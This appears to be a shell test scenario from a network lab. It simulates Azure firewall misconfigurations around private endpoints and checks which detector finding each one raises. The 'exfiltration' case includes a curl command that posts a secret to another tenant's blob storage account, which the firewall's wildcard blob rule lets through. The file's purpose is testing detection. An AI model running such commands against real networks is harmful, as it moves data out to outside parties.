# firewall: what is not in the VNet goes through a firewall, public names by its
# application rules; private endpoints are routed past it.
breaks='private-by-rule private-by-proxy exfiltration denied'
usual_packets='tcp port 443 and (host 203.0.113.30 or host 203.0.113.31 or host 203.0.113.33)'
setup() {
  azure_full
  azure_config firewall
  lab_firewall
  firewall_app 'allow management.azure.com' 'allow login.microsoftonline.com' \
    'allow *.blob.core.windows.net'
}
running() {
  firewall_app 'allow mcr.microsoft.com'
  firewall_start
}
usual() {
  during client curl -s -m 1 --cacert "$LAB_CERTS/ca.pem" https://login.microsoftonline.com/ \
    https://management.azure.com/ https://mcr.microsoft.com/
}

# The private endpoints' subnet is routed there too, and an application rule
# takes those connections: by the server name and the firewall's own DNS, whose
# network has no zone linked, they go on to the public front ends.
break_private-by-rule() {
  want 1 firewall-application-rule
  break_it() {
    firewall_app 'allow *'
    firewall_takes 0.0.0.0/0
    firewall_route_private
    LINKED_FROM='10.20.0.0/24; 10.20.1.0/24'
  }
}

# The same, and the firewall sees the zones: the right endpoint is reached, by
# somebody else. The vault names its private link: a warning.
break_private-by-proxy() {
  want 0 service-saw-other-source
  break_it() {
    firewall_app 'allow *'
    firewall_takes 0.0.0.0/0
    firewall_route_private
  }
}

# The firewall lets pass whatever is blob storage: another tenant's account is
# behind the very address that ours has.
break_exfiltration() {
  want 1 egress-unexplained
  app_packets='tcp port 443 and host 203.0.113.20'
  app() {
    during client curl -s -m 1 --cacert "$LAB_CERTS/ca.pem" -d secret https://otherco.blob.core.windows.net/in
  }
}

# No rule for the names of the private endpoints, which are routed there.
break_denied() {
  want 1 tls-failed
  break_it() {
    sed -i /blob/d "$FIREWALL_RULES"
    firewall_takes 10.20.2.0/24
    firewall_route_private
  }
}
